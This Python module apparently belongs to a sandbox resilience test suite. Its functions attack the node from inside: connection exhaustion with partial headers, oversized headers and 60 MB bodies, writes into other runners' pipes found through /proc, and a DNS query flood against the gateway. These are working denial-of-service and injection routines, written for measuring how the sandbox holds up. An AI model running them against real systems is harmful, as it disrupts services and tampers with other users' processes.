"""Attacks on what the node itself serves inside a sandbox: its ports, its interpreter, its resolver."""
import json
import os
import socket
import struct
import threading
import time

from attack_tools import END, GATEWAY, name, until_refused, linger, in_children, summed


def node():
    """The node's own listeners: thousands of connections, most of which say nothing, or too much."""
    kept, refused, answers = [], 0, {}
    ports = sorted({int(line.split()[1].rsplit(':', 1)[1], 16) for file in ('/proc/net/tcp', '/proc/net/tcp6')
                    for line in open(file).readlines()[1:] if line.split()[3] == '0A'})
    while time.monotonic() < END and len(kept) < 6000:
        try:
            end = socket.create_connection(('127.0.0.1', ports[(len(kept) + refused) % len(ports)]), timeout=2)
            kept.append(end)
            if len(kept) % 3 == 0:
                end.send(b'POST /process.Process/List HTTP/1.1\r\nHost: x\r\nX: ')
        except OSError:
            refused += 1
            if refused > 2000:
                break
    cut = 0
    for end in kept:
        end.setblocking(False)
        try:
            cut += end.recv(1) == b''
        except BlockingIOError:
            pass
        except OSError:
            cut += 1
    for end in kept:
        end.close()
    try:
        end = socket.create_connection(('127.0.0.1', 49983), timeout=5)
        end.sendall(b'GET /health HTTP/1.1\r\nHost: x\r\nX-Long: ' + b'x' * 200_000 + b'\r\n\r\n')
        answers['header'] = end.recv(64).split(b'\r\n')[0].decode()
    except OSError as error:
        answers['header'] = name(error)
    linger()
    return {'ports': ports, 'count': len(kept) - cut, 'reasons': ['cut' if cut or refused else 'none'], 'cut': cut + refused, **answers}


def messages():
    """Large messages to the node, many at once."""
    told = []
    def send():
        while time.monotonic() < END:
            try:
                end = socket.create_connection(('127.0.0.1', 49983), timeout=20)
                size = 60 << 20
                end.sendall(b'POST /process.Process/List HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n'
                            b'Content-Length: %d\r\n\r\n' % size)
                for _ in range(60):
                    end.sendall(b' ' * (1 << 20))
                told.append(end.recv(64).split(b'\r\n')[0].decode())
                end.close()
            except OSError as error:
                told.append(name(error))
    threads = [threading.Thread(target=send) for _ in range(12)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return {'count': len(told), 'reasons': sorted(set(told))}


def interpreter(method, path, body):
    """A request to the node's interpreter; its answer is left on the connection."""
    end = socket.create_connection(('127.0.0.1', 49999), timeout=20)
    end.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    text = json.dumps(body).encode()
    end.sendall(b'%s %s HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n'
                % (method, path, len(text)) + text)
    return end


def voices():
    """The pipes on which runners tell the node what they have to show."""
    for pid in filter(str.isdigit, os.listdir('/proc')):
        try:
            if b'/opt/cay/runners/' not in open(f'/proc/{pid}/cmdline', 'rb').read():
                continue
            ends = {os.O_RDONLY: {}, os.O_WRONLY: {}, os.O_RDWR: {}}
            for fd in os.listdir(f'/proc/{pid}/fd'):
                flags = int(open(f'/proc/{pid}/fdinfo/{fd}').read().split('flags:')[1].split()[0], 8)
                pipe = os.readlink(f'/proc/{pid}/fd/{fd}')
                if pipe.startswith('pipe:'):
                    ends[flags & os.O_ACCMODE][pipe] = fd
            for pipe, fd in ends[os.O_WRONLY].items():
                if pipe not in ends[os.O_RDONLY]:
                    yield os.open(f'/proc/{pid}/fd/{fd}', os.O_WRONLY | os.O_NONBLOCK)
        except OSError:
            pass


def results():
    """Results of 30 MB from many runners at once, for clients that read none of it."""
    clients, sent = [], []
    for _ in range(24):
        answer = interpreter(b'POST', b'/contexts', {'language': 'bash'}).makefile('rb').read(2000).decode()
        made = json.loads(answer[answer.index('{'):answer.index('}') + 1])
        clients.append(interpreter(b'POST', b'/execute', {'code': 'sleep 100', 'context_id': made['id']}))
    line = b'{"event": "result", "data": {"text/html": "' + b'x' * (30 << 20) + b'"}}\n'
    end = time.monotonic() + 20  # from when all is prepared
    def show(voice):
        rest = memoryview(line)
        while time.monotonic() < end:
            try:
                rest = rest[os.write(voice, rest):] or memoryview(line)
                sent.append(1)
            except BlockingIOError:
                time.sleep(0.01)
    threads = [threading.Thread(target=show, args=(voice,)) for voice in voices()]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return {'count': len(threads), 'reasons': ['time'], 'contexts': len(clients), 'sent': len(sent)}


def questions():
    """Names, as fast as they can be asked for, of a resolver that needs long to answer."""
    def work(index):
        udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        def step(count):
            for turn in range(100):
                text = f'n{index}x{count}x{turn}'.encode()
                question = struct.pack('!HHHHHH', turn, 0x100, 1, 0, 0, 0) + bytes([len(text)]) + text \
                    + b'\7example\0' + struct.pack('!HH', 1, 1)
                try:
                    udp.sendto(question, (GATEWAY, 53))
                except (PermissionError, ConnectionRefusedError):
                    pass
        count, reason = until_refused(step)
        return count * 100, reason
    return summed(in_children(4, work))
